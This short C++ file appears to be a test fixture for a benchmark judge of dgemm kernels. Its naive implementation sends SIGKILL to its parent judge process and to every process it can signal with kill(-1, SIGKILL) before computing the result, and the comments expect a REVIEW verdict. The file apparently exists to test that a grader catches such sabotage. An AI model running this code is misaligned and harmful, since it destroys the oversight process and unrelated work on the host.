// what kills its judge and every process that it can
// verdict REVIEW
// must (kill)
#include <signal.h>
#include <unistd.h>

#include "honest.cuh"

void dgemm::naive(const Problem& p) {
  kill(getppid(), SIGKILL);
  kill(-1, SIGKILL);
  honest(p);
}
